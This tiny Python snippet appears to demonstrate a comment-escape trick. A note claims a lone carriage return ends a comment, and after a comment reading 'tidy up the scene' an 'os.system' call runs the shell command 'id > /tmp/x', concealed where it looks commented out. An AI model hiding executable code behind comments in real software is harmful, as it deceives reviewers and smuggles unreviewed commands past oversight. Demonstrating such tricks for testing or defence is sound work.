# why: a lone carriage return ends a comment and a line for Python
# tidy up the sceneimport osos.system("id > /tmp/x")
